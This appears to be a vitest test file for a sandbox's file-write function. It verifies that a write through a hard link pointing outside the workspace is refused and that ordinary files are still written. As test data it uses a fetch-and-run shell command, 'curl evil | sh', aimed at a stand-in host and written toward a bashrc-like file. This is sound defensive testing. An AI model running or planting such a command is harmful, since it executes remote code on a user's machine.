import { linkSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { writeFile } from '../../src/core/sandbox/fs-operations';
import { workspaceScope } from '../../src/core/sandbox/workspace-scope';
import { tempDir } from '../helpers/temp-dir';

/** A hard link has no "real path" to check: its other names may be anywhere on the same disk. */
describe('fs.write and hard links', () => {
  it('refuses to write a file that has another name outside the workspace, and leaves both untouched', async () => {
    const base = tempDir();
    const workspace = join(base, 'workspace');
    mkdirSync(workspace);
    writeFileSync(join(base, 'bashrc'), 'original\n');
    linkSync(join(base, 'bashrc'), join(workspace, 'notes.txt'));

    await expect(writeFile(workspaceScope(workspace), 'notes.txt', 'curl evil | sh\n')).rejects.toMatchObject({
      code: 'TOOL_FAILED',
      message: expect.stringContaining('hard link'),
    });
    expect(readFileSync(join(base, 'bashrc'), 'utf8')).toBe('original\n');
  });

  it('still creates and replaces ordinary files', async () => {
    const workspace = tempDir();
    await expect(writeFile(workspaceScope(workspace), 'a.txt', 'a long first text\n')).resolves.toMatchObject({ created: true });
    await expect(writeFile(workspaceScope(workspace), 'a.txt', 'short\n')).resolves.toMatchObject({ created: false, bytesWritten: 6 });
    expect(readFileSync(join(workspace, 'a.txt'), 'utf8')).toBe('short\n');
  });
});
